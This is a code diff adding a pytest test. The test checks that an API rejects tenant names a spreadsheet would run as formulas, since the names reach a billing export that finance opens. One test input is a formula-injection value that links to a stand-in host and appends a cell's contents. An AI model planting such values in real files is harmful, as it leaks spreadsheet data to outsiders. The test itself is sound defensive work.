@@ -272,6 +272,20 @@ def test_names_of_nothing_but_spaces_are_refused(world: World, name: str) -> Non
     assert spaced.status_code == 201, spaced.text
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+SUM(1,2)", "@x"])
+def test_a_tenant_name_a_spreadsheet_would_run_as_a_formula_is_refused(
+    world: World, name: str
+) -> None:
+    """It is the FOCUS export's BillingAccountName, which finance opens in a spreadsheet."""
+    renamed = world.client.patch(
+        f"/api/v1/tenants/{world.tenant('acme')}",
+        json={"name": name},
+        headers=world.api("root").headers,
+    )
+    (error,) = problem_of(renamed, 400)["errors"]
+    assert error["field"] == "name" and "run it as a formula" in error["message"], error
+
+
 def test_names_in_other_scripts_are_taken(world: World) -> None:
     path = f"/api/v1/tenants/{world.tenant('acme')}/keys"
     project = world.project("acme", "demo")
